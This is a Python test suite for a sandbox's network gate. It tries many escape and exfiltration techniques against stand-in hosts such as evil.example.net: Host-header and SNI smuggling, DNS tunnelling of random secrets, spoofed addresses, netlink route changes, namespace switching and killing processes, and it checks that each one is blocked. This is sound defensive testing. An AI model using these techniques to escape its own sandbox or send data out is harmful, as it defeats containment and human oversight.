# SPDX-License-Identifier: MIT
"""
Ways round the gate, and that each fails: the code inside gets the outcome that is given, what the gate saw of it is
named in the result, and no packet went where it should not. Each is tried with the host's network first: that is its
control.
"""

import re
import socket

from box import WEB, check, equal, matches, test
from internet import EVIL4, EVIL6, WWW4

RESET = ("ECONNRESET", "EPIPE", "closed")


def way(
    what,
    code,
    outcome,
    blocked=None,
    control="^through",
    network="allow=www.example.org",
    may=WEB,
    v6=False,
    options=(),
    host_options=(),
):
    """
    `outcome`: what attempt() gives, or several of them; `blocked`: a pattern that one entry of network_blocked matches,
    none where the gate sees nothing of it; `control`: a pattern of the outcome with the host's network, None where
    there is none.
    """

    def run(box):
        if v6 and not box.net.have_v6:
            return "without IPv6"
        note = None
        if control:
            result = box.python(code, network="host", options=(*options, *host_options))
            if not re.search(control, result.outcome):
                note = f"its control: {result.outcome}"
            box.net.zone()
        result = box.python(code, network=network, may=may, options=options)
        check(
            result.outcome in ((outcome,) if isinstance(outcome, str) else outcome),
            f"the outcome is {result.outcome!r}",
            result,
        )
        if blocked:
            check(
                any(re.search(blocked, host) for host in result.blocked),
                f"nothing like {blocked!r} is named as blocked",
                result,
            )
        check(note is None, f"without the gate the outcome is the same, so this shows nothing: {note}", result)
        return note

    test(f"blocked: {what}")(run)


WWW = "resolve('www.example.org')\n"

# --- names ---

for about, name in (
    ("another name", "evil.example.net"),
    ("a name below an allowed one", "deep.www.example.org"),
    ("the parent of an allowed name", "example.org"),
    ("a name that an allowed one ends", "evilwww.example.org"),
    ("a name that an allowed one begins", "www.example.org.evil.example.net"),
):
    way(about, f"tried(resolve, '{name}')", "no name", "^" + re.escape(name))
way(
    "a name that a star's ends without a dot",
    "tried(resolve, 'badexample.org')",
    "no name",
    "^badexample.org",
    network="allow=*.example.org",
)
way(
    "what a star is of, itself",
    "tried(resolve, 'example.org')",
    "no name",
    "^example.org",
    network="allow=*.example.org",
)

# --- addresses ---

way(
    "an address that nobody answered, with an allowed name",
    WWW + "tried(tls, EVIL4, 'www.example.org')",
    RESET,
    f"^{EVIL4}:443$",
)
way("the same over IPv6", WWW + "tried(tls, EVIL6, 'www.example.org')", RESET, re.escape(f"[{EVIL6}]:443"), v6=True)
way(
    "the same, IPv4 inside of IPv6",
    WWW + "tried(tls, '::ffff:' + EVIL4, 'www.example.org')",
    RESET,
    f"^{EVIL4}:443$",
    v6=True,
)
way(
    "the address of an allowed name before it is asked for",
    "tried(tls, WWW4, 'www.example.org')",
    RESET,
    f"^{WWW4}:443$",
)
way("http to an address that nobody answered", WWW + "tried(http, EVIL4, 'www.example.org')", RESET, f"^{EVIL4}:80$")
way(
    "an address of another name, from a line in the sandbox's own hosts file",
    "open('/etc/hosts', 'a').write(EVIL4 + ' www.example.org\\n')\n"
    "tried(lambda: tls(EVIL4 if EVIL4 in resolve('www.example.org') else None, 'www.example.org'))",
    RESET,
    f"^{EVIL4}:443$",
    control=None,
)
way(
    "a source address that is the allowed one's",
    WWW + """
def spoof():
    c = socket.socket()
    c.settimeout(SECONDS)
    c.bind((WWW4, 0))
    c.connect((EVIL4, 80))
    return request(c, 'www.example.org')
tried(spoof)""",
    RESET,
    f"^{EVIL4}:80$",
)
way(
    "data in the first packet (TCP fast open)",
    """
def fast():
    c = socket.socket()
    c.sendto(b'GET /where HTTP/1.1\\r\\nHost: www.example.org\\r\\nConnection: close\\r\\n\\r\\n',
             0x20000000, (EVIL4, 80))
    c.settimeout(SECONDS)
    return status_and_body(read_all(c))
tried(fast)""",
    (*RESET, "EOPNOTSUPP"),
    f"^{EVIL4}:80$",
)
way(
    "multipath TCP",
    """
def multipath():
    c = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    c.settimeout(SECONDS)
    c.connect((EVIL4, 80))
    return request(c, 'www.example.org')
tried(multipath)""",
    (*RESET, "EPERM", "EPROTONOSUPPORT"),
    control="^through|EPROTONOSUPPORT|EPERM|ENOPROTOOPT|EAFNOSUPPORT",
)

# --- TLS ---

way(
    "TLS to an allowed address with another name",
    WWW + "tried(tls, WWW4, 'evil.example.net')",
    RESET,
    "^evil.example.net:443$",
)
way("the same over IPv6", WWW + "tried(tls, WWW6, 'evil.example.net')", RESET, "^evil.example.net:443$", v6=True)
way("TLS without a name", WWW + "tried(tls, WWW4, None)", RESET, f"^(www.example.org|{WWW4}):443$")
way("TLS with an address as its name", WWW + "tried(tls, WWW4, EVIL4)", RESET, ":443$")
way("plain HTTP on 443", WWW + "tried(http, WWW4, 'www.example.org', 443)", RESET, ":443$", control=None)
way("anything else on 443", WWW + "tried(raw, WWW4, 443, b'SSH-2.0-x\\r\\n')", RESET, ":443$", control=None)
way(
    "a hello of SSL 2",
    WWW
    + "tried(raw, WWW4, 443, bytes.fromhex('802e0103010015000000100100800300800700c0060040020080040080') + bytes(40))",
    RESET,
    ":443$",
    control=None,
)
way(
    "another name in a hello of one byte a record",
    WWW + "tried(raw, WWW4, 443, records(hello('evil.example.net')[5:], 1))",
    RESET,
    "^evil.example.net:443$",
)
way(
    "another name in a hello of one byte a segment",
    WWW + "tried(raw, WWW4, 443, hello('evil.example.net'), pieces=1)",
    RESET,
    "^evil.example.net:443$",
)
way(
    "a hello that is longer than 64 KiB",
    WWW + "tried(raw, WWW4, 443, hello('www.example.org', padding=65400) + bytes(3000))",
    RESET,
    ":443$",
    control=None,
)
way(
    "a hello that does not end, and is closed",
    WWW + "tried(raw, WWW4, 443, hello('www.example.org')[:60], shut=True)",
    RESET,
    control=None,
)
way(
    "a hello with the name twice, the other one second",
    WWW + "tried(raw, WWW4, 443, with_extension(hello('evil.example.net'), 0, "
    "bytes.fromhex('0012 00 000f') + b'www.example.org'))",
    RESET,
    ":443$",
    control=None,
)
way(
    "a name with a NUL in it",
    WWW + "h = hello('www.example.org.evil.example.net').replace(b'www.example.org.evil', "
    "b'www.example.org\\0evil')\ntried(raw, WWW4, 443, h)",
    RESET,
    ":443$",
    control=None,
)
way(
    "an encrypted hello whose outer name is another one",
    WWW + "tried(raw, WWW4, 443, with_extension(hello('evil.example.net'), 0xfe0d, bytes(8) + bytes(200)))",
    RESET,
    "^evil.example.net:443$",
)
way(
    "TLS with another name on the port of HTTP",
    WWW + "tried(raw, WWW4, 80, hello('evil.example.net'))",
    RESET,
    ":80$",
    control=None,
)
way(
    "TLS with another name on a port of another protocol",
    WWW + "tried(tls, WWW4, 'evil.example.net', 8443)",
    RESET,
    "^evil.example.net:8443$",
    network="allow=www.example.org:8443",
    may={f"tcp {WWW4} 8443"},
)
way("DNS over HTTPS to somebody else", WWW + "tried(tls, '8.8.8.8', 'dns.google')", RESET, "^8.8.8.8:443$")
way(
    "DNS over HTTPS by its name", "tried(lambda: tls(resolve('dns.google')[0], 'dns.google'))", "no name", "^dns.google"
)
way("DNS over TLS", "tried(tls, '8.8.8.8', 'dns.google', 853)", "ECONNREFUSED", control=None)

# --- HTTP ---


def lines(*text):
    return repr("".join(f"{line}\r\n" for line in (*text, "", "")[:-1]).encode())


OURS, OTHER = "Host: www.example.org", "Host: evil.example.net"
for about, request, blocked, control in (
    ("another Host", lines("GET /where HTTP/1.1", OTHER, "Connection: close"), "^evil.example.net:80$", "^through"),
    ("two Hosts", lines("GET /where HTTP/1.1", OURS, OTHER, "Connection: close"), ":80$", "^through"),
    (
        "two Hosts, the other way round",
        lines("GET /where HTTP/1.1", OTHER, OURS, "Connection: close"),
        ":80$",
        "^through",
    ),
    (
        "a target with another host",
        lines("GET http://evil.example.net/where HTTP/1.1", OURS, "Connection: close"),
        ":80$",
        "^through",
    ),
    (
        "an allowed target and another Host",
        lines("GET http://www.example.org/where HTTP/1.1", OTHER, "Connection: close"),
        ":80$",
        "^through",
    ),
    ("CONNECT", lines("CONNECT evil.example.net:443 HTTP/1.1", OTHER), ":80$", "^through"),
    ("CONNECT with an allowed Host", lines("CONNECT evil.example.net:443 HTTP/1.1", OURS), ":80$", "^through"),
    ("no Host", lines("GET /where HTTP/1.0"), ":80$", "^through"),
    ("HTTP/0.9", repr(b"GET /where\r\n"), ":80$", None),
    (
        "a Host with blanks before its colon",
        lines("GET /where HTTP/1.1", "Host : evil.example.net", OURS),
        ":80$",
        None,
    ),
    (
        "a Host that goes on in a line of its own",
        lines("GET /where HTTP/1.1", "Host:", " evil.example.net", "Connection: close"),
        ":80$",
        None,
    ),
    (
        "lines that end without a carriage return",
        repr(f"GET /where HTTP/1.1\n{OTHER}\nConnection: close\n\n".encode()),
        ":80$",
        "^through",
    ),
    (
        "a carriage return alone before another Host",
        repr(f"GET /where HTTP/1.1\r\nX: y\r{OTHER}\r\n{OURS}\r\n\r\n".encode()),
        ":80$",
        None,
    ),
    (
        "a NUL in the Host",
        repr(b"GET /where HTTP/1.1\r\nHost: www.example.org\0.evil.example.net\r\n\r\n"),
        ":80$",
        None,
    ),
    (
        "user information in the Host",
        lines("GET /where HTTP/1.1", "Host: www.example.org@evil.example.net"),
        ":80$",
        None,
    ),
    (
        "another port in the Host",
        lines("GET /where HTTP/1.1", "Host: evil.example.net:80", "Connection: close"),
        ":80$",
        "^through",
    ),
    ("HTTP/2 without TLS", repr(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9)), ":80$", None),
    (
        "a head without an end",
        repr(b"GET / HTTP/1.1\r\nHost: www.example.org\r\nX: " + b"x" * 70000 + b"\r\n\r\n"),
        ":80$",
        None,
    ),
):
    way(f"HTTP with {about}", WWW + f"tried(raw, WWW4, 80, {request})", RESET, blocked, control=control)
way(
    "an address as the Host",
    WWW + f"tried(raw, WWW4, 80, {lines('GET /where HTTP/1.1', f'Host: {EVIL4}', 'Connection: close')})",
    RESET,
    ":80$",
)
way(
    "HTTP with another Host on a port of another protocol",
    WWW + "tried(http, WWW4, 'evil.example.net', 8080)",
    RESET,
    "^evil.example.net:8080$",
    network="allow=www.example.org:8080",
    may={f"tcp {WWW4} 8080"},
)
for about, method in (
    ("an uncommon method", "PROPFIND "),
    ("a method that nobody has heard of", "X-NSBOX_Y "),
    ("a blank before the method", " GET "),
    ("a tab behind the method", "GET\t"),
):
    way(
        f"HTTP with another Host and {about} on a port of another protocol",
        WWW
        + f"tried(raw, WWW4, 8080, {lines(method + '/where HTTP/1.1', OTHER, 'Connection: close')}, pieces=1)",
        RESET,
        ":8080$",
        network="allow=www.example.org:8080",
        may={f"tcp {WWW4} 8080"},
    )
way(
    "a request one byte a segment with another Host",
    WWW + f"tried(raw, WWW4, 80, {lines('GET /where HTTP/1.1', OTHER, 'Connection: close')}, pieces=1)",
    RESET,
    "^evil.example.net:80$",
)

way(
    "a request behind a byte of urgent data",
    WWW + '''
def urgent(first):
    with connect(WWW4, 80) as c:
        c.send(first, socket.MSG_OOB)
        time.sleep(0.5)
        return request(c, 'www.example.org')
tried(urgent, b' ')''',
    RESET,
    ":80$",
    control=None,
)

# --- ports and protocols ---

way("another port of an allowed name", WWW + "tried(http, WWW4, 'www.example.org', 8080)", "ECONNREFUSED")
way("the same over IPv6", WWW + "tried(http, WWW6, 'www.example.org', 8080)", "ECONNREFUSED", v6=True)
way(
    "a port that another name may use",
    "resolve('www.example.org')\ntried(http, EVIL4, 'www.example.org', 8080)",
    RESET,
    f"^{EVIL4}:8080$",
    network="allow=www.example.org,files.example.org:8080",
)
way("UDP 443 (QUIC)", WWW + "tried(udp, WWW4, 443)", "ECONNREFUSED", control=None)
way("UDP to any port", "tried(udp, EVIL4, 5000)", "ECONNREFUSED", control=None)
way("UDP over IPv6", "tried(udp, EVIL6, 5000)", "ECONNREFUSED", control=None, v6=True)
way(
    "ping",
    """
def ping(kind):
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as s:
        s.settimeout(2)
        s.sendto(bytes.fromhex('0800f7ff00000000'), (EVIL4, 0))
        return s.recv(100)[:1]
tried(ping, socket.SOCK_DGRAM)""",
    ("EACCES", "EPERM"),
    control=None,
)
way(
    "raw sockets",
    "tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP))",
    ("EPERM", "EACCES"),
    control=None,
)
way(
    "raw sockets of IPv6",
    "tried(lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_UDP))",
    ("EPERM", "EACCES"),
    control=None,
    v6=True,
)
way(
    "packet sockets",
    "tried(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 3))",
    ("EPERM", "EACCES", "EAFNOSUPPORT"),
    control=None,
)
for about, number, kind in (
    ("SCTP", 132, "SOCK_STREAM"),
    ("UDP-Lite", 136, "SOCK_DGRAM"),
    ("DCCP", 33, "SOCK_DCCP"),
    ("L2TP", 115, "SOCK_DGRAM"),
):
    way(
        about,
        f"""
def other():
    with socket.socket(socket.AF_INET, getattr(socket, '{kind}', 6), {number}) as s:
        s.settimeout(2)
        s.connect((EVIL4, 5000))
        s.send(b'x')
        return s.recv(10)
tried(other)""",
        ("EPROTONOSUPPORT", "ESOCKTNOSUPPORT", "EPERM", "EACCES", "ECONNREFUSED", "timeout", "EAFNOSUPPORT"),
        control=None,
    )

# --- DNS as a way out ---

way(
    "a server of DNS elsewhere",
    "tried(ask, 'evil.example.net', A, '8.8.8.8')",
    "through code 3 with 0",
    "^evil.example.net",
    control=None,
)
way(
    "the same over TCP",
    "tried(ask, 'evil.example.net', A, '8.8.8.8', tcp=True)",
    "through code 3 with 0",
    "^evil.example.net",
    control=None,
)
way(
    "the same over IPv6",
    "tried(ask, 'evil.example.net', A, '2001:4860:4860::8888')",
    "through code 3 with 0",
    "^evil.example.net",
    control=None,
    v6=True,
)
way(
    "other bytes on TCP 53",
    "tried(raw, EVIL4, 53, b'GET / HTTP/1.1\\r\\nHost: www.example.org\\r\\n\\r\\n' * 3000)",
    (*RESET, "timeout"),
    control=None,
)


def unasked(what, code, network="allow=www.example.org"):
    """Questions of which no server hears."""

    @test(f"blocked: {what}")
    def run(box):
        result = box.python(code, network=network, may=())
        equal([query.name for query in box.net.dns.queries], [], result)
        for said in result.said:
            matches("^through code [0-5] with 0", said["outcome"], result)


TUNNEL = "import base64, os\nsecret = base64.b32encode(os.urandom(30)).decode().lower()\n"
unasked(
    "a tunnel by the labels of a name",
    TUNNEL + "tried(ask, secret + '.evil.example.net')\ntried(ask, secret + '.www.example.org')",
)
unasked(
    "a tunnel by text records",
    "for kind in (TXT, NULL, ANY, AXFR, HTTPS, 15, 33, 41, 99, 65280):\n    tried(ask, 'evil.example.net', kind)",
)
unasked(
    "other types of an allowed name",
    "for kind in (TXT, NULL, ANY, AXFR, HTTPS, 2, 6, 12, 15, 33, 43, 65280):\n    tried(ask, 'www.example.org', kind)",
)
unasked("the same over TCP", "for kind in (TXT, NULL, HTTPS):\n    tried(ask, 'www.example.org', kind, tcp=True)")
unasked(
    "other classes",
    "q = question('www.example.org')[:-2]\n"
    "for number in (3, 4, 255):\n    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:\n"
    "        s.settimeout(5)\n        s.sendto(q + struct.pack('!H', number), ('127.0.0.1', 53))\n"
    "        tried(lambda: parse_answer(s.recv(600)))",
)
unasked(
    "a name with bytes that no host has",
    "for label in (b'a b', b'a\\0b', b'a.b', b'\\xc3\\xa4', b'*'):\n"
    "    tried(ask, '', wire=bytes([len(label)]) + label + b'\\3www\\7example\\3org\\0')",
)


@test("blocked: letters of a question as a tunnel, what is in its other sections, its number")
def canonical(box):
    code = """
def send(tail, name='wWw.ExAmPlE.oRg', counts=(1, 0, 0, 1), number=0xbeef):
    q = bytearray(question(name, number=number) + tail)
    q[4:12] = struct.pack('!4H', *counts)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(bytes(q), ('127.0.0.1', 53))
        return parse_answer(s.recv(600))
tried(send, bytes.fromhex('00 0029 04d0 00000000 0014 fde9 0010') + b'SECRETSECRETSECR')
"""
    result = box.python(code, may=())
    for query in box.net.dns.queries:
        check(b"SECRET" not in query.message, "what was in the question's additional section went out", result)
        check(b"wWw" not in query.message, "the letters went out as they were", result)
        check(query.id != 0xBEEF, "the number went out", result)


# --- the gate, and what it stands on ---

for target in ("127.0.0.1", "0.0.0.0", "127.8.8.8", "::1", "::"):
    way(
        f"the gate's own port at {target}",
        WWW + f"tried(tls, '{target}', 'www.example.org')",
        RESET,
        control=None,
        v6=":" in target,
    )
way("to take the gate's port", "tried(lambda: socket.create_server(('0.0.0.0', 443)))", "EADDRINUSE", control=None)
for option in ("SO_REUSEADDR", "SO_REUSEPORT"):
    way(
        f"the same with {option}",
        f"""
def take(address, family):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.{option}, 1)
    s.bind((address, 443))
    s.listen()
    return address
tried(lambda: [take(WWW4, socket.AF_INET)])""",
        "EADDRINUSE",
        control=None,
    )
way(
    "to take the port of DNS",
    "tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(('127.0.0.1', 53)))",
    "EADDRINUSE",
    control=None,
)
NETLINK = """
def netlink(kind, body, flags=0x5):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.settimeout(2)
        s.send(struct.pack('=IHHII', 16 + len(body), kind, flags, 1, 0) + body)
        number = -struct.unpack('=i', s.recv(4096)[16:20])[0]
        if number:
            raise OSError(number, 'netlink')
LO = socket.if_nametoindex('lo')
"""
REFUSED = ("EPERM", "EACCES", "EAFNOSUPPORT")
way(
    "to remove the route",
    NETLINK + "tried(netlink, 25, struct.pack('=8BI', 2, 0, 0, 0, 255, 0, 254, 2, 0))",
    REFUSED,
    control=None,
)
way(
    "to take the interface down",
    NETLINK + "tried(netlink, 16, struct.pack('=BBHiII', 0, 0, 0, LO, 0, 1))",
    REFUSED,
    control=None,
)
way(
    "to add an address",
    NETLINK
    + "tried(netlink, 20, struct.pack('=4BI', 2, 32, 0, 0, LO) + struct.pack('=HH', 8, 2) + bytes([9, 9, 9, 9]), "
    "0x405)",
    REFUSED,
    control=None,
)
way(
    "to add a rule for routes",
    NETLINK + "tried(netlink, 32, struct.pack('=8BI', 2, 0, 0, 0, 254, 0, 0, 1, 0), 0x405)",
    REFUSED,
    control=None,
)
way(
    "to make a link",
    NETLINK + "tried(netlink, 16, struct.pack('=BBHiII', 0, 0, 0, 0, 0, 0) + struct.pack('=HH', 10, "
    "3) + b'dummy0' + b'\\0\\0', 0x605)",
    REFUSED,
    control=None,
)
way(
    "to take the interface down by ioctl",
    """
import fcntl
tried(lambda: fcntl.ioctl(socket.socket(), 0x8914, struct.pack('16sh22x', b'lo', 0)))""",
    REFUSED,
    control=None,
)
for sysctl in ("ip_forward", "conf/all/route_localnet", "ip_unprivileged_port_start", "ip_local_port_range"):
    way(
        f"to write the sysctl {sysctl}",
        f"tried(lambda: open('/proc/sys/net/ipv4/{sysctl}', 'w').write('1'))",
        ("EACCES", "EROFS", "EPERM", "ENOENT"),
        control=None,
    )
for name, level, number in (
    ("IP_TRANSPARENT", 0, 19),
    ("SO_MARK", 1, 36),
    ("SO_RCVBUFFORCE", 1, 33),
    ("SO_DEBUG", 1, 1),
):
    way(
        f"the socket option {name}",
        f"tried(socket.socket().setsockopt, {level}, {number}, 1)",
        ("EPERM", "EACCES"),
        control=None,
    )
way(
    "SO_BINDTODEVICE to another interface",
    "tried(socket.socket().setsockopt, 1, 25, b'eth0\\0')",
    ("ENODEV", "EPERM"),
    control=None,
)
way(
    "SO_BINDTODEVICE to loopback",
    """
def bound():
    c = socket.socket()
    c.settimeout(SECONDS)
    c.setsockopt(1, 25, b'lo\\0')
    c.connect((EVIL4, 80))
    return request(c, 'www.example.org')
tried(bound)""",
    (*RESET, "EPERM"),
    control=None,
)
way(
    "setns to the network of a process",
    "tried(lambda: call('setns', os.open('/proc/1/ns/net', os.O_RDONLY), 0))",
    ("EPERM", "EACCES"),
    control=None,
)
way("a network namespace of its own", "tried(call, 'unshare', 0x40000000)", ("EPERM", "EACCES"), control=None)
way("a user and a network namespace", "tried(call, 'unshare', 0x50000000)", ("EPERM", "EACCES", "ENOSPC"), control=None)


@test("blocked: without a filter of system calls, too: the kernel's own rights hold all of that")
def unconfined(box):
    code = NETLINK + """
import fcntl
def option(level, number):
    socket.socket().setsockopt(level, number, 1)
def raw_socket(family, kind, protocol):
    socket.socket(family, kind, protocol)
say(
    route=attempt(netlink, 25, struct.pack('=8BI', 2, 0, 0, 0, 255, 0, 254, 2, 0)),
    down=attempt(netlink, 16, struct.pack('=BBHiII', 0, 0, 0, LO, 0, 1)),
    address=attempt(netlink, 20, struct.pack('=4BIHH4B', 2, 32, 0, 0, LO, 8, 2, 9, 9, 9, 9), 0x405),
    link=attempt(netlink, 16, struct.pack('=BBHiIIHH6s2x', 0, 0, 0, 0, 0, 0, 10, 3, b'dummy0'), 0x605),
    ioctl=attempt(fcntl.ioctl, socket.socket(), 0x8914, struct.pack('16sh22x', b'lo', 0)),
    transparent=attempt(option, 0, 19), mark=attempt(option, 1, 36),
    raw=attempt(raw_socket, socket.AF_INET, socket.SOCK_RAW, 6),
    packet=attempt(raw_socket, socket.AF_PACKET, socket.SOCK_RAW, 3),
    setns=attempt(lambda: call('setns', os.open('/proc/1/ns/net', os.O_RDONLY), 0)),
)
say(apart=attempt(call, 'unshare', 0x50000000), evil=attempt(http, EVIL4, 'www.example.org'), www=attempt(http, WWW4, 'www.example.org'))
"""
    result = box.python(code, options=("--seccomp", "unconfined"), may=())
    for what, outcome in result.said[0].items():
        check(outcome in ("EPERM", "EACCES"), f"{what}: {outcome}", result)
    check(not result.said[1]["evil"].startswith("through"), "it is reached from a namespace of its own", result)
    check(not result.said[1]["www"].startswith("through"), "it is reached without having been asked for", result)


@test("blocked: abstract sockets of the host")
def abstract(box):
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind("\0nsbox-tests-abstract")
        listener.listen()
        code = "s = socket.socket(socket.AF_UNIX)\ntried(s.connect, '\\0nsbox-tests-abstract')"
        check(box.python(code).outcome in ("ECONNREFUSED", "EPERM"), "it is reached")


@test("blocked: what is inherited, and the gate as a process")
def inherited(box):
    code = """
import signal
fds = {}
for fd in os.listdir('/proc/self/fd'):
    with contextlib.suppress(OSError):
        fds[fd] = os.readlink(f'/proc/self/fd/{fd}')
say(sockets=[f for f in fds.values() if f.startswith('socket')], extra=[f for n, f in fds.items() if int(n) > 2])
names = {}
for entry in os.listdir('/proc'):
    if entry.isdigit():
        names[entry] = open(f'/proc/{entry}/comm').read().strip()
say(gates=[n for n in names.values() if 'gate' in n],
    others=[p for p in names if int(p) not in (1, os.getpid(), os.getppid())])
say(first=[attempt(os.listdir, '/proc/1/fd'), attempt(os.kill, 1, signal.SIGKILL)])
for pid in range(2, 400):
    if pid != os.getpid():
        attempt(os.kill, pid, signal.SIGKILL)
say(after=attempt(lambda: tls(resolve('www.example.org', socket.AF_INET)[0], 'www.example.org')))
"""
    result = box.python(code)
    equal(result.said[0], {"sockets": [], "extra": []}, result)
    equal(result.said[1], {"gates": [], "others": []}, result)
    check(
        result.said[2]["first"][0] in ("EACCES", "EPERM") or result.said[2]["first"][0] == "through []",
        "what the first process has is seen",
        result,
    )
    matches("^through 200", result.said[3]["after"], result)


@test("blocked: what another sandbox's gate allows")
def another(box):
    code = "print(resolve('evil.example.net', socket.AF_INET), flush=True)\nsys.stdin.read()"
    with box.running(code, network="allow=evil.example.net") as (process, first):
        equal(first, f"['{EVIL4}']")
        result = box.python(
            "say(o=[attempt(resolve, 'evil.example.net'), attempt(tls, EVIL4, 'evil.example.net'), "
            "attempt(http, EVIL4, 'evil.example.net')])"
        )
        equal(result.said[0]["o"], ["no name", "ECONNRESET", "ECONNRESET"], result)


@test("blocked: servers of the host's own loopback, also by a name that leads there")
def host_loopback(box):
    heard = []
    with box.net.serving(7070, lambda connection, address: heard.append(address)):
        box.net.dns.zone["local.example.org"] = ["127.0.0.1", "::1"]
        code = (
            "say(o=[attempt(resolve, 'local.example.org'), attempt(raw, '127.0.0.1', 7070, b'x'), attempt(raw, "
            "'::1', 7070, b'x'), attempt(raw, '0.0.0.0', 7070, b'x')])"
        )
        result = box.python(code, network="allow=local.example.org:7070", may=())
    equal(result.said[0]["o"][0], "no name", result)
    for outcome in result.said[0]["o"][1:]:
        check(outcome in ("ECONNRESET", "EPIPE", "ECONNREFUSED", "EADDRNOTAVAIL"), f"the outcome is {outcome}", result)
    equal(heard, [], result)


@test("the code's own servers work, on low ports too, at every address that is its own")
def own(box):
    code = """
import threading
server = socket.create_server(('0.0.0.0', 81))
def serve():
    while True:
        c = server.accept()[0]
        c.recv(1)
        c.sendall(b'mine')
threading.Thread(target=serve, daemon=True).start()
say(o=[attempt(raw, a, 81, b'x') for a in ('127.0.0.1', EVIL4)])
"""
    result = box.python(code, may=())
    equal(result.said[0]["o"], ["through b'mine'"] * 2, result)
